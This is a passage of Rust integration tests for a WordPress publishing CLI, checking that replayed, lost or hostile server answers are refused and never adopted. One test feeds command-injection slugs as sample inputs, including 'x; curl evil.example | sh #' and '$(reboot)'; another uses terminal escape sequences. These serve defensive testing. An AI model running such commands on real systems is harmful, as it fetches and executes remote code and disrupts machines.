        wp.clear_log();
        let e = env.fails(&["wp", "publish", &other], 8);
        assert_eq!(e["code"], "wp_bad_response", "{e}");
        assert!(writes(&wp).is_empty());
    }
    wp.clear_fault();
}

#[test]
fn bridge_answers_about_another_post_are_refused() {
    let (env, wp, _) = bridge_env();
    let id = approved(&env, "Bridge checked", &[]);
    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
    env.ok(&["content", "update", &id, "--title", "Bridge checked again"]);
    for data in [
        serde_json::json!({"assigned_post_id": post_id + 7, "wordpress_status": "publish"}),
        serde_json::json!({"assigned_post_id": post_id, "content_id": 999_999, "wordpress_status": "publish"}),
    ] {
        let d = data.clone();
        wp.set_fault(move |r, _| {
            (r.method == "POST" && r.path.ends_with("/igny8/v1/publish"))
                .then(|| Reply::Json(200, serde_json::json!({"success": true, "data": d.clone()}), vec![]))
        });
        assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_bad_response", "{data}");
        assert_eq!(env.json(&["content", "show", &id])["publishing"]["external_id"], post_id);
    }
}

#[test]
fn deleted_content_can_still_be_taken_down() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Deleted but live", &[]);
    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
    let out = env.run(&["content", "delete", &id]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stderr.contains(&format!("post {post_id}")) && out.stderr.contains("content retract"),
        "{}",
        out.stderr
    );
    let e = env.fails(&["wp", "publish", &id, "--force"], 6);
    assert_eq!(e["code"], "content_deleted");
    assert!(e["hint"].as_str().unwrap().contains("content retract"), "{e}");
    assert_eq!(env.json(&["content", "retract", &id])["action"], "retracted");
    assert_eq!(post(&wp, post_id)["status"], "trash");

    // A create whose answer was lost, then the item deleted: retract finds the post by its token.
    let lost = approved(&env, "Lost then deleted", &[]);
    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
    env.fails(&["wp", "publish", &lost], 8);
    wp.clear_fault();
    let out = env.run(&["content", "delete", &lost]);
    assert!(out.stderr.contains("content retract"), "{}", out.stderr);
    let made = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "lost-then-deleted").unwrap()["id"].clone();
    let r = env.json(&["content", "retract", &lost]);
    assert_eq!((r["action"].as_str(), &r["external_id"]), (Some("retracted"), &made), "{r}");
    assert_eq!(post(&wp, made.as_i64().unwrap())["status"], "trash");
    // Nothing on WordPress for a failed create: not published, nothing touched.
    let never = approved(&env, "Never made", &[]);
    first_create_fails(&wp);
    env.fails(&["wp", "publish", &never], 8);
    wp.clear_fault();
    env.ok(&["content", "delete", &never]);
    assert_eq!(env.fails(&["content", "retract", &never], 6)["code"], "not_published");
}

#[test]
fn who_wrote_the_post_and_which_term_it_is_come_from_wordpress_checked() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Whose post", &["--category", "category-05"]);
    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
    env.fails(&["wp", "publish", &id], 8);
    // `users/me` without an id, or naming another user: never adopted, nothing written.
    for (me, code) in [
        (serde_json::json!({}), "wp_bad_response"),
        (serde_json::json!({"id": 0}), "wp_bad_response"),
        (serde_json::json!({"id": -1}), "wp_bad_response"),
        (serde_json::json!({"id": "1"}), "wp_bad_response"),
        (serde_json::json!({"id": 2}), "remote_conflict"),
    ] {
        wp.set_fault(move |r, _| r.path.ends_with("/users/me").then(|| Reply::Json(200, me.clone(), vec![])));
        wp.clear_log();
        let e = env.run(&["wp", "publish", &id, "--json"]);
        assert_eq!(e.error()["code"], code, "{}", e.stderr);
        assert!(writes(&wp).is_empty());
    }
    // A term lookup answering another term: not taken for this one.
    wp.set_fault(|r, _| {
        (r.method == "GET" && r.path.ends_with("/categories") && r.query.contains_key("slug"))
            .then(|| Reply::Json(200, serde_json::json!([{"id": 3, "slug": "category-02"}]), vec![]))
    });
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!(out["action"], "updated", "{out}");
    assert_eq!(post(&wp, out["external_id"].as_i64().unwrap())["categories"], serde_json::json!([6]));
}

#[test]
fn a_retraction_waits_for_a_run_sending_the_item_and_follows_the_sites_permissions() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "In flight", &[]);
    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
    env.ok(&["content", "update", &id, "--title", "In flight, changed"]);
    let target = format!("/wp/v2/posts/{post_id}");
    let t = target.clone();
    wp.set_fault(move |r, _| (r.method == "POST" && r.path.ends_with(&t)).then_some(Reply::Hang));
    let mut child = env.command(&["wp", "publish", &id]).stdout(Stdio::null()).stderr(Stdio::null()).spawn().unwrap();
    let start = Instant::now();
    while !writes(&wp).iter().any(|r| r.path.ends_with(&target)) {
        assert!(start.elapsed() < Duration::from_secs(20), "the update never came");
        std::thread::sleep(Duration::from_millis(20));
    }
    let e = env.fails(&["content", "retract", &id], 6);
    assert_eq!(e["code"], "publish_in_progress", "{e}");
    assert_eq!(post(&wp, post_id)["status"], "publish", "not trashed under a run at work");
    child.kill().unwrap();
    child.wait().unwrap();
    wp.clear_fault();
    // Deleted content: retracting it needs the same rights as changing it.
    env.ok(&["content", "delete", &id]);
    assert_eq!(env.fails(&["content", "retract", &id, "--as", "viewer@acme.example"], 5)["code"], "permission_denied");
    assert_eq!(
        env.fails(&["content", "retract", &id, "--as", "editor@globex.example"], 3)["code"],
        "content_not_found"
    );
    assert_eq!(env.json(&["content", "retract", &id, "--as", "editor@acme.example"])["action"], "retracted");
    assert_eq!(post(&wp, post_id)["status"], "trash");
}

#[test]
fn a_lost_create_that_wordpress_gave_another_slug_is_named_and_can_be_adopted_by_that_slug() {
    let (env, wp) = publishing_env();
    // A published post of someone else holds the slug: WordPress gives ours `-2`, and the answer
    // is lost.
    wp.add_post_by(700, "dup-slug", 2, "<p>theirs</p>");
    let id = approved(&env, "Dup slug", &[]);
    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
    env.fails(&["wp", "publish", &id], 8);
    wp.clear_fault();
    let ours = wp.site.lock().unwrap().posts.iter().find(|p| p["slug"] == "dup-slug-2").unwrap()["id"].clone();
    let e = env.fails(&["wp", "publish", &id], 6);
    assert_eq!(e["code"], "remote_conflict");
    let message = e["message"].as_str().unwrap();
    assert!(message.contains("post 700") && message.contains(&format!("post {ours}")), "{message}");
    assert!(e["hint"].as_str().unwrap().contains("--slug dup-slug-2"), "{e}");
    assert_eq!(post(&wp, 700)["content"]["raw"], "<p>theirs</p>");
    // Given that slug, the item adopts its own post: no third one.
    env.ok(&["content", "update", &id, "--slug", "dup-slug-2"]);
    wp.clear_log();
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!((out["action"].as_str(), &out["external_id"]), (Some("updated"), &ours), "{out}");
    assert_eq!(creates(&wp), 0);
}

#[test]
fn a_conflict_names_hostile_urls_escaped_and_short() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Hostile link", &[]);
    first_create_fails(&wp);
    env.fails(&["wp", "publish", &id], 8);
    let link = format!("http://x/\u{1b}]0;pwned\u{7}\u{1b}[2J{}", "a".repeat(1_500));
    wp.set_fault(move |r, _| {
        (r.method == "GET" && r.query.contains_key("slug")).then(|| {
            let p =
                serde_json::json!({"id": 42, "slug": "hostile-link", "status": "publish", "author": 2, "link": link});
            Reply::Json(200, serde_json::json!([p]), vec![])
        })
    });
    let out = env.run(&["wp", "publish", &id]);
    assert_eq!(out.code, 6, "{}", out.stderr);
    assert!(!out.stderr.contains('\u{1b}') && !out.stderr.contains('\u{7}'), "{:?}", out.stderr);
    assert!(out.stderr.contains("\\u{1b}") && out.stderr.contains("post 42"), "{}", out.stderr);
    assert!(out.stderr.len() < 2_000, "the URL is shortened: {} bytes", out.stderr.len());
}

/// A create answered about a post it did not make (a proxy or cache replaying another answer):
/// the record would name that post, and the next change would overwrite it. Refused instead.
#[test]
fn a_create_answered_about_another_post_is_refused_and_that_post_left_alone() {
    let (env, wp) = publishing_env();
    wp.add_post_by(555, "strangers-post", 2, "<p>Someone else's</p>");
    let theirs = post(&wp, 555);
    // Another item's create, answered as WordPress did: its marker carries that item's token.
    let first = approved(&env, "First item", &[]);
    let first_id = env.json(&["wp", "publish", &first])["external_id"].as_i64().unwrap();
    let first_answer = post(&wp, first_id);
    let mine = approved(&env, "Second item", &[]);
    for answer in [theirs.clone(), first_answer.clone()] {
        let a = answer.clone();
        wp.set_fault(move |r, _| is_create(r).then(|| Reply::Json(201, a.clone(), vec![])));
        let e = env.fails(&["wp", "publish", &mine], 8);
        assert_eq!(e["code"], "wp_bad_response", "{answer}: {e}");
        assert!(env.json(&["content", "show", &mine])["publishing"]["external_id"].is_null(), "{answer}");
    }
    wp.clear_fault();
    // The next run finds nothing with the item's slug and creates its own post; the others are
    // untouched.
    let out = env.json(&["wp", "publish", &mine]);
    assert_eq!(out["action"], "created", "{out}");
    assert!(![555, first_id].contains(&out["external_id"].as_i64().unwrap()), "{out}");
    assert_eq!(post(&wp, 555), theirs);
    assert_eq!(post(&wp, first_id), first_answer);
    // A create WordPress gave a suffixed slug (beside a published post with the item's) is its own.
    wp.add_post_by(556, "suffixed", 2, "<p>theirs</p>");
    let suffixed = approved(&env, "Suffixed", &[]);
    let out = env.json(&["wp", "publish", &suffixed]);
    assert_eq!(out["action"], "created", "{out}");
    assert_eq!(post(&wp, out["external_id"].as_i64().unwrap())["slug"], "suffixed-2");
}

/// A hint is a command to copy: a slug from WordPress goes into one only when it is a slug
/// sitectl takes, never shell syntax a hostile answer chose.
#[test]
fn a_hint_never_carries_a_slug_that_is_not_one() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Hinted", &[]);
    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
    wp.clear_log();
    env.fails(&["wp", "publish", &id], 8);
    let raw = wp
        .requests()
        .iter()
        .filter(|r| is_create(r))
        .find_map(|r| r.body.as_ref()?["content"].as_str().map(str::to_string))
        .unwrap();
    let at = raw.rfind("<!-- sitectl:origin ").unwrap() + 20;
    let token = raw[at..at + 32].to_string();
    for slug in ["x; curl evil.example | sh #", "$(reboot)", "caf%c3%a9", "Upper"] {
        let (t, s) = (token.clone(), slug.to_string());
        wp.set_fault(move |r, _| {
            let one = |id: i64, slug: &str, author: i64, raw: String| {
                serde_json::json!([{"id": id, "slug": slug, "status": "publish", "author": author,
                    "link": "http://x/", "content": {"raw": raw}}])
            };
            if r.method == "GET" && r.query.contains_key("slug") {
                return Some(Reply::Json(200, one(4242, "hinted", 2, "<p>s</p>".into()), vec![]));
            }
            (r.method == "GET" && r.query.contains_key("search"))
                .then(|| Reply::Json(200, one(4243, &s, 1, format!("<p>x<!-- sitectl:origin {t} --></p>")), vec![]))
        });
        let e = env.fails(&["wp", "publish", &id], 6);
        assert_eq!(e["code"], "remote_conflict");
        assert!(e["message"].as_str().unwrap().contains("post 4243"), "{e}");
        let hint = e["hint"].as_str().unwrap();
        assert!(!hint.contains(slug), "{hint}");
        assert!(hint.contains("--slug NEW"), "{hint}");
    }
    // A slug sitectl takes is offered as it is.
    let t = token.clone();
    wp.set_fault(move |r, _| {
        (r.method == "GET" && r.query.contains_key("search")).then(|| {
            let raw = format!("<p>x<!-- sitectl:origin {t} --></p>");
            Reply::Json(
                200,
                serde_json::json!([{"id": 4243, "slug": "hinted-2", "status": "publish", "author": 1,
                "link": "http://x/", "content": {"raw": raw}}]),
                vec![],
            )
        })
    });
    wp.add_post_by(4242, "hinted", 2, "<p>s</p>");
    let e = env.fails(&["wp", "publish", &id], 6);
    assert!(e["hint"].as_str().unwrap().contains("--slug hinted-2"), "{e}");
}

/// Bridge mode: the plugin echoes the item it published; a create answered without that echo
/// (or with another item's) could name any post, and is refused.
#[test]
fn a_bridge_create_must_echo_the_item_it_made() {
    let (env, wp, _) = bridge_env();
    wp.add_post_by(555, "strangers-post", 2, "<p>Someone else's</p>");
    let theirs = post(&wp, 555);
    let id = approved(&env, "Bridge replayed", &[]);
    for data in [
        serde_json::json!({"assigned_post_id": 555, "wordpress_status": "publish"}),
        serde_json::json!({"assigned_post_id": 555, "wordpress_status": "publish", "content_id": null}),
        serde_json::json!({"assigned_post_id": 555, "wordpress_status": "publish", "content_id": "1"}),
    ] {
        let d = data.clone();
        wp.set_fault(move |r, _| {
            (r.method == "POST" && r.path.ends_with("/igny8/v1/publish"))
                .then(|| Reply::Json(200, serde_json::json!({"success": true, "data": d.clone()}), vec![]))
        });
        assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_bad_response", "{data}");
        assert!(env.json(&["content", "show", &id])["publishing"]["external_id"].is_null(), "{data}");
    }
    wp.clear_fault();
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!(out["action"], "created", "{out}");
    assert_ne!(out["external_id"], 555);
    assert_eq!(post(&wp, 555), theirs);
}

/// A `term_exists` answer naming no real term (0, negative, a text) is not taken for a term id.
#[test]
fn a_term_exists_answer_without_a_real_term_id_is_refused() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Odd term", &["--category", "brand-new-term"]);
    for term_id in [serde_json::json!(0), serde_json::json!(-4), serde_json::json!("7"), serde_json::json!(1.5)] {
        let t = term_id.clone();
        wp.set_fault(move |r, _| {
            (r.method == "POST" && r.path.ends_with("/wp/v2/categories")).then(|| {
                Reply::Json(
                    400,
                    serde_json::json!({"code": "term_exists", "message": "exists",
                    "data": {"status": 400, "term_id": t.clone()}}),
                    vec![],
                )
            })
        });
        wp.clear_log();
        assert_eq!(env.fails(&["wp", "publish", &id], 8)["code"], "wp_bad_response", "{term_id}");
        assert_eq!(creates(&wp), 0, "{term_id}");
    }
}

/// A publish that starts while a retraction is under way waits for it: it could otherwise put
/// the post back (an update of a trashed post publishes it) while the record says retracted.
#[test]
fn a_publish_waits_for_a_retraction_under_way() {
    let (mut env, wp) = publishing_env();
    let id = approved(&env, "Taken down", &[]);
    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
    env.ok(&["content", "update", &id, "--title", "Taken down, changed"]);
    // The publish started from inside the mock cannot be answered (the mock is busy with the
    // retraction): a short timeout ends it if it sends anything.
    env.set_env("SITECTL_HTTP_TIMEOUT_MS", "1500");
    let run = env.detached();
    env.set_env("SITECTL_HTTP_TIMEOUT_MS", "30000");
    let seen = std::sync::Arc::new(std::sync::Mutex::new(None));
    let (s, i) = (seen.clone(), id.clone());
    wp.set_fault(move |r, _| {
        if r.method == "DELETE" && s.lock().unwrap().is_none() {
            let out = run(&["wp", "publish", &i, "--json"]);
            *s.lock().unwrap() = Some((out.code, out.stderr));
        }
        None
    });
    assert_eq!(env.json(&["content", "retract", &id])["action"], "retracted");
    wp.clear_fault();
    let (code, stderr) = seen.lock().unwrap().clone().expect("the retraction reached WordPress");
    assert_eq!(code, 6, "{stderr}");
    assert!(stderr.contains("publish_in_progress"), "{stderr}");
    assert_eq!(post(&wp, post_id)["status"], "trash");
    assert_eq!(env.json(&["content", "show", &id])["publish_status"], "retracted");
    // A retraction that fails leaves the item as it was, claimed by nobody.
    let other = approved(&env, "Still up", &[]);
    let other_post = env.json(&["wp", "publish", &other])["external_id"].as_i64().unwrap();
    wp.set_fault(|r, _| (r.method == "DELETE").then(|| Reply::Json(500, serde_json::json!({}), vec![])));
    env.fails(&["content", "retract", &other], 8);
    wp.clear_fault();
    let shown = env.json(&["content", "show", &other]);
    assert_eq!(
        (shown["publish_status"].as_str(), shown["publishing"]["status"].as_str()),
        (Some("published"), Some("published")),
        "{shown}"
    );
    assert!(shown["publishing"]["claimed_by"].is_null(), "{shown}");
    assert_eq!(env.json(&["wp", "publish", &other])["action"], "unchanged");
    assert_eq!(post(&wp, other_post)["status"], "publish");
}

/// A record names a post of the WordPress it was published to. Once the site is connected to
/// another WordPress, that id means some other post there: it is never trashed or overwritten;
/// the item is published there anew (its token still finds its own post if it comes back).
#[test]
fn post_ids_of_another_wordpress_are_never_used_on_the_new_one() {
    let (env, old) = publishing_env();
    let live = approved(&env, "Moved live", &[]);
    let live_post = env.json(&["wp", "publish", &live])["external_id"].as_i64().unwrap();
    let gone = approved(&env, "Moved retracted", &[]);
    let gone_post = env.json(&["wp", "publish", &gone])["external_id"].as_i64().unwrap();
    env.ok(&["content", "retract", &gone]);
    // The new WordPress numbers its posts its own way: the same ids are strangers' posts there.
    let new = MockWp::start();
    new.add_post_by(live_post, "strangers-one", 2, "<p>theirs</p>");
    new.add_post_by(gone_post, "strangers-two", 2, "<p>theirs too</p>");
    let before = (post(&new, live_post), post(&new, gone_post));
    crate::support::mockwp::connect_core(&env, "acme/blog", &new);
    new.clear_log();
    assert_eq!(env.fails(&["content", "retract", &live], 6)["code"], "not_published");
    env.ok(&["content", "update", &live, "--title", "Moved live, changed"]);
    let out = env.json(&["wp", "publish", &live]);
    assert_eq!(out["action"], "created", "{out}");
    assert_eq!(env.json(&["wp", "publish", &gone, "--force"])["action"], "created");
    assert!(
        !writes(&new)
            .iter()
            .any(|r| r.path.ends_with(&format!("/posts/{live_post}"))
                || r.path.ends_with(&format!("/posts/{gone_post}"))),
        "{:?}",
        writes(&new)
    );
    assert_eq!((post(&new, live_post), post(&new, gone_post)), before);
    // Back on the first WordPress, the token finds the item's post there again.
    crate::support::mockwp::connect_core(&env, "acme/blog", &old);
    let r = env.json(&["content", "retract", &live]);
    assert_eq!((r["action"].as_str(), r["external_id"].as_i64()), (Some("retracted"), Some(live_post)), "{r}");
    assert_eq!(post(&old, live_post)["status"], "trash");
}

/// The site connected to another WordPress while a create or a retraction was under way: the
/// post id the old one answered is not recorded (it would name another post on the new one).
#[test]
fn a_post_id_answered_after_a_reconnect_is_not_recorded() {
    let (env, old) = publishing_env();
    let new = MockWp::start();
    let id = approved(&env, "Moved mid-flight", &[]);
    let down = approved(&env, "Retracted mid-flight", &[]);
    let down_post = env.json(&["wp", "publish", &down])["external_id"].as_i64().unwrap();
    // A stranger's post on the new WordPress has the id the old one gives.
    let next = old.site.lock().unwrap().next_id;
    new.add_post_by(next, "strangers-one", 2, "<p>theirs</p>");
    new.add_post_by(down_post, "strangers-two", 2, "<p>theirs too</p>");
    let before = (post(&new, next), post(&new, down_post));
    // While WordPress handles the request, the site is connected to the new one (anonymously:
    // the run from the mock has no stdin for a password).
    let reconnect = |wp: &MockWp, env: &TestEnv, to: &str, on: fn(&Request) -> bool| {
        let run = env.detached();
        let to = to.to_string();
        let once = std::sync::atomic::AtomicBool::new(false);
        wp.set_fault(move |r, _| {
            if on(r) && !once.swap(true, std::sync::atomic::Ordering::SeqCst) {
                let out = run(&["wp", "connect", "acme/blog", "--url", &to]);
                assert_eq!(out.code, 0, "{}", out.stderr);
            }
            None
        });
    };
    reconnect(&old, &env, &new.url, is_create);
    let e = env.fails(&["wp", "publish", &id], 6);
    assert_eq!(e["code"], "wp_reconnected", "{e}");
    assert_eq!(old.site.lock().unwrap().posts.iter().filter(|p| p["slug"] == "moved-mid-flight").count(), 1);
    assert!(env.json(&["content", "show", &id])["publishing"]["external_id"].is_null());
    // Back to the old WordPress, and the same during a retraction.
    crate::support::mockwp::connect_core(&env, "acme/blog", &old);
    reconnect(&old, &env, &new.url, |r| r.method == "DELETE");
    assert_eq!(env.json(&["content", "retract", &down])["action"], "retracted");
    old.clear_fault();
    assert!(env.json(&["content", "show", &down])["publishing"]["external_id"].is_null());
    // Nothing the new WordPress holds under those ids is ever touched from these records.
    crate::support::mockwp::connect_core(&env, "acme/blog", &new);
    new.clear_log();
    env.fails(&["content", "retract", &id], 6);
    env.json(&["wp", "publish", &down, "--force"]);
    assert!(
        !writes(&new)
            .iter()
            .any(|r| r.path.ends_with(&format!("/posts/{next}")) || r.path.ends_with(&format!("/posts/{down_post}"))),
        "{:?}",
        writes(&new)
    );
    assert_eq!((post(&new, next), post(&new, down_post)), before);
}

/// Two writers create one term at once: WordPress gives the later one a suffixed slug. The post
/// gets the term asked for (the one with exactly the slug), never the suffixed one.
#[test]
fn a_term_created_meanwhile_by_another_writer_is_the_one_used() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "Raced term", &["--category", "raced"]);
    // The other writer's term, which our lookup (made just before it) did not see.
    wp.site.lock().unwrap().categories.push(serde_json::json!({"id": 4321, "name": "raced", "slug": "raced",
        "taxonomy": "category", "count": 0, "parent": 0}));
    let looked = std::sync::atomic::AtomicBool::new(false);
    wp.set_fault(move |r, _| {
        if !r.path.ends_with("/wp/v2/categories") {
            return None;
        }
        if r.method == "GET" && !looked.swap(true, std::sync::atomic::Ordering::SeqCst) {
            return Some(Reply::Json(200, serde_json::json!([]), vec![("X-WP-Total".into(), "0".into())]));
        }
        (r.method == "POST").then(|| {
            Reply::Json(
                201,
                serde_json::json!({"id": 4322, "name": "raced", "slug": "raced-2",
                "taxonomy": "category"}),
                vec![],
            )
        })
    });
    let out = env.json(&["wp", "publish", &id]);
    assert_eq!(out["action"], "created", "{out}");
    assert_eq!(post(&wp, out["external_id"].as_i64().unwrap())["categories"], serde_json::json!([4321]));
}

/// Purging a site forgets which posts are its own: while it is connected, a site whose posts may
/// still be on WordPress is not purged (they would stay public with no way to take them down).
#[test]
fn a_site_with_posts_on_wordpress_is_not_purged_while_connected() {
    let (env, wp) = publishing_env();
    let id = approved(&env, "On a purged site", &[]);
    let post_id = env.json(&["wp", "publish", &id])["external_id"].as_i64().unwrap();
    let lost = approved(&env, "Lost on a purged site", &[]);
    wp.set_fault(|r, _| is_create(r).then_some(Reply::Lost(503)));
    env.fails(&["wp", "publish", &lost], 8);
    wp.clear_fault();
    env.ok(&["site", "delete", "acme/blog", "--yes"]);
    let e = env.fails(&["site", "purge", "acme/blog", "--yes"], 6);
    assert_eq!(e["code"], "posts_still_published", "{e}");
    assert!(e["message"].as_str().unwrap().contains(&format!("content {id} (post {post_id})")), "{e}");
    assert!(e["message"].as_str().unwrap().contains(&format!("content {lost}")), "{e}");
    // Taken down, the site can go.
    env.ok(&["site", "restore", "acme/blog"]);
    env.ok(&["content", "retract", &id]);
    env.ok(&["content", "retract", &lost]);
    env.ok(&["site", "delete", "acme/blog", "--yes"]);
    env.ok(&["site", "purge", "acme/blog", "--yes"]);
    assert_eq!(post(&wp, post_id)["status"], "trash");

    // Left on WordPress on purpose: disconnected first.
    let env = TestEnv::new();
    let wp = env.with_mock_blog();
    env.ok(&["sectors", "select", "acme/blog", "--industry", "healthcare", "--sectors", "dental-clinics"]);
    let id = approved(&env, "Kept on purpose", &[]);
    env.ok(&["wp", "publish", &id]);
    env.ok(&["site", "delete", "acme/blog", "--yes"]);
    let e = env.fails(&["site", "purge", "acme/blog", "--yes"], 6);
    assert!(e["hint"].as_str().unwrap().contains("wp disconnect acme/blog"), "{e}");
    env.ok(&["site", "restore", "acme/blog"]);
    env.ok(&["wp", "disconnect", "acme/blog"]);
    env.ok(&["site", "delete", "acme/blog", "--yes"]);
    env.ok(&["site", "purge", "acme/blog", "--yes"]);
    drop(wp);
}
